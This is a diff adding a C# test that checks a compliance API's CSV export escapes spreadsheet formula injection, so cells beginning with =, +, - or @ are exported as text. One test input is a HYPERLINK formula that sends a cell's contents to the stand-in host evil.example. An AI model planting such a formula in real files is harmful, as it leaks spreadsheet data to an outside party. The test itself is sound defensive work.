@@ -42,4 +42,21 @@ public class ComplianceApiTests(RevenueServiceFixture fixture) : IClassFixture<R
         Assert.Empty(JsonNode.Parse(await auditor.GetStringAsync($"/api/audit/compliance?university={university}&from={tomorrow}"))!["items"]!.AsArray());
         Assert.Equal(HttpStatusCode.Forbidden, (await fixture.Client("university", university).GetAsync("/api/audit/compliance")).StatusCode);
     }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")]
+    [InlineData("+SUM(1,2)")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(1)")]
+    public async Task A_text_field_a_spreadsheet_would_run_is_exported_as_text(string university)
+    {
+        var dealId = await fixture.ConcludeDealAsync(RewardCalculationTests.WorkedExampleContributors, university: university);
+        var request = new HttpRequestMessage(HttpMethod.Get, $"/api/audit/compliance?university={Uri.EscapeDataString(university)}");
+        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
+        var text = await (await fixture.Client("auditor").SendAsync(request)).Content.ReadAsStringAsync();
+        var row = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Single(l => l.StartsWith(dealId.ToString(), StringComparison.Ordinal));
+        var field = row[(dealId.ToString().Length + 1)..];
+        Assert.StartsWith(field.StartsWith('"') ? "\"'" : "'", field); // quoted or not, the cell starts with a quote mark
+        Assert.Contains(",0.00,0.00,", row); // amounts stay numbers
+    }
 }
